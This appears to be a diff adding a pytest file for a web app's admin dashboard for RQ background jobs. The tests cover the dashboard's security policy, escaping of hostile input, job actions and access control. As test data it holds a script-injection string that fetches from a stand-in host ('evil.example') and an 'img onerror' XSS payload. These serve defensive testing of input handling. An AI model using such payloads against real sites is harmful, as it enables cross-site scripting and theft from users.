@@ -1,0 +1,177 @@
+"""The RQ dashboard: lists, single jobs, workers and the schedule, for admins, under the site's strict policy."""
+
+from __future__ import annotations
+
+import pytest
+from rq import Worker
+from rq.job import Job
+from rq.registry import FailedJobRegistry, ScheduledJobRegistry
+from rq.results import Result
+from rq.serializers import JSONSerializer
+
+from tests.support.people import post_form
+from webapp.jobspecs import JobRequest, Queue, push, rq_queue
+
+HOSTILE = "x');fetch('//evil.example');('"
+
+
+@pytest.fixture
+def browser(login, make_user):
+    """An admin's browser."""
+    return login(make_user(is_admin=True))
+
+
+@pytest.fixture
+def connection(app):
+    """The application's Redis."""
+    return app.extensions["redis"]
+
+
+@pytest.fixture
+def failed_job(connection):
+    """A job that failed with a message that would be markup."""
+    queue = rq_queue(connection, Queue.TURN)
+    job = queue.enqueue("jobs.titles.generate_title", conversation_id=1, meta={"name": "title"})
+    queue.remove(job)
+    registry = FailedJobRegistry(queue=queue)
+    registry.add(job, ttl=100)
+    Result.create_failure(job, 100, "ValueError: <img src=x onerror=alert(1)>")
+    job.set_status("failed")
+    return job
+
+
+def pages(job_id="gone"):
+    """Every page, by address."""
+    return ["", "/", "/queues/turn/failed", "/queues/turn/queued", "/queues/batch/finished?page=2", f"/jobs/{job_id}"]
+
+
+def test_pages_answer_under_the_strict_policy(browser, failed_job):
+    for page in pages(failed_job.id):
+        answer = browser.get(f"/admin/rq{page}")
+        assert (page, answer.status_code) == (page, 200)
+        assert "unsafe" not in answer.headers["Content-Security-Policy"]
+        assert "<script>" not in answer.text and " onclick" not in answer.text
+    assert "RQ dashboard" in browser.get("/admin/rq").text
+    assert 'href="/admin/rq/"' in browser.get("/admin").text or 'href="/admin/rq"' in browser.get("/admin").text
+
+
+def test_the_overview_renews_itself(browser, failed_job):
+    part = browser.get("/admin/rq/", headers={"HX-Request": "true"}).text
+    assert "<html" not in part and "1 failed in turn" in part
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        f"/queues/{HOSTILE}/failed",
+        f"/queues/turn/{HOSTILE}",
+        "/queues/unknown/failed",
+        "/queues/turn/unknown",
+        f"/jobs/{HOSTILE}",
+        "/0/view/jobs/x')/failed/8/asc/1",
+        "/0/data/queues.json",
+    ],
+)
+def test_a_name_in_the_address_is_known_or_not_found(page, browser, failed_job):
+    answer = browser.get(f"/admin/rq{page}")
+    assert answer.status_code in (404, 405)  # 405: below a job there are only actions
+    assert HOSTILE not in answer.text
+
+
+def test_what_a_job_says_cannot_become_markup(browser, failed_job):
+    page = browser.get(f"/admin/rq/jobs/{failed_job.id}").text
+    assert "ValueError: &lt;img src=x onerror=alert(1)&gt;" in page
+    assert "<img src=x" not in page
+
+
+def test_a_job_with_a_dependency_is_shown(browser, connection):
+    queue = rq_queue(connection, Queue.TURN)
+    first = queue.enqueue("jobs.titles.generate_title", conversation_id=1)
+    second = queue.enqueue("jobs.titles.generate_title", conversation_id=2, depends_on=first)
+    assert first.id in browser.get(f"/admin/rq/jobs/{second.id}").text
+    assert second.id in browser.get("/admin/rq/queues/turn/deferred").text
+
+
+def test_a_running_job_is_shown_with_its_worker(browser, connection):
+    queues = [rq_queue(connection, name) for name in Queue]
+    job_id = push(connection, JobRequest("title", {"conversation_id": 7}))
+    worker = Worker(queues, name="busy", connection=connection, serializer=JSONSerializer)
+    worker.register_birth()
+    job = Job.fetch(job_id, connection=connection, serializer=JSONSerializer)
+    worker.prepare_execution(job)
+    page = browser.get("/admin/rq/").text
+    assert "busy" in page and f"/admin/rq/jobs/{job_id}" in page
+
+
+def test_a_failed_job_is_put_back_and_deleted(browser, failed_job, connection):
+    queue = rq_queue(connection, Queue.TURN)
+    path = f"/admin/rq/jobs/{failed_job.id}"
+    assert post_form(browser, f"{path}/requeue", "/admin").status_code == 303
+    assert queue.job_ids == [failed_job.id]
+    again = queue.fetch_job(failed_job.id)
+    assert again.kwargs == {"conversation_id": 1}
+    assert post_form(browser, f"{path}/requeue", "/admin").status_code == 409
+    assert post_form(browser, f"{path}/delete", "/admin").status_code == 303
+    assert queue.job_ids == []
+    assert post_form(browser, f"{path}/delete", "/admin").status_code == 404
+
+
+def test_a_waiting_job_is_cancelled(browser, connection):
+    job_id = push(connection, JobRequest("title", {"conversation_id": 7}))
+    assert post_form(browser, f"/admin/rq/jobs/{job_id}/cancel", "/admin").status_code == 303
+    assert rq_queue(connection, Queue.TURN).job_ids == []
+    assert job_id in browser.get("/admin/rq/queues/turn/canceled").text
+
+
+def test_a_job_that_waits_for_its_time_is_run_now(browser, connection):
+    queue = rq_queue(connection, Queue.TURN)
+    job_id = push(connection, JobRequest("title", {"conversation_id": 7}))
+    job = queue.fetch_job(job_id)
+    queue.remove(job)
+    job.set_status("scheduled")
+    ScheduledJobRegistry(queue=queue).add(job, 4_000_000_000)
+    assert post_form(browser, f"/admin/rq/jobs/{job_id}/run", "/admin").status_code == 303
+    assert queue.job_ids == [job_id]
+    assert post_form(browser, f"/admin/rq/jobs/{job_id}/run", "/admin").status_code == 409
+
+
+def test_all_of_a_list_at_once(browser, failed_job, connection):
+    queue = rq_queue(connection, Queue.TURN)
+    assert post_form(browser, "/admin/rq/queues/turn/failed/requeue", "/admin").status_code == 303
+    assert queue.job_ids == [failed_job.id]
+    assert post_form(browser, "/admin/rq/queues/turn/queued/delete", "/admin").status_code == 303
+    assert queue.job_ids == []
+    assert post_form(browser, "/admin/rq/queues/turn/started/delete", "/admin").status_code == 409
+
+
+def test_the_schedule_can_be_run_now(browser, connection):
+    assert post_form(browser, "/admin/rq/schedule/sweep", "/admin").status_code == 303
+    assert rq_queue(connection, Queue.UPKEEP).count == 1
+    assert post_form(browser, "/admin/rq/schedule/title", "/admin").status_code == 404
+
+
+def test_a_function_that_is_no_job_of_ours_is_not_put_back(browser, connection):
+    queue = rq_queue(connection, Queue.TURN)
+    job = queue.enqueue("os.getcwd")
+    queue.remove(job)
+    FailedJobRegistry(queue=queue).add(job, ttl=100)
+    job.set_status("failed")
+    assert post_form(browser, f"/admin/rq/jobs/{job.id}/requeue", "/admin").status_code == 409
+    assert queue.job_ids == []
+
+
+def test_others_see_and_change_nothing(login, user, anonymous, failed_job, connection):
+    mine = login(user)
+    for page in pages(failed_job.id):
+        assert mine.get(f"/admin/rq{page}").status_code == 403
+        assert anonymous.get(f"/admin/rq{page}").status_code == 303
+    for path in (f"/jobs/{failed_job.id}/requeue", "/queues/turn/failed/requeue", "/schedule/sweep"):
+        assert post_form(mine, f"/admin/rq{path}", "/settings").status_code == 403
+        assert anonymous.post(f"/admin/rq{path}").status_code in (303, 401)
+    assert rq_queue(connection, Queue.TURN).job_ids == []
+
+
+def test_changes_need_the_token_of_our_pages(browser, failed_job, connection):
+    path = f"/admin/rq/jobs/{failed_job.id}/requeue"
+    assert browser.post(path, headers={"Origin": "http://localhost"}).status_code == 403
+    assert rq_queue(connection, Queue.TURN).job_ids == []
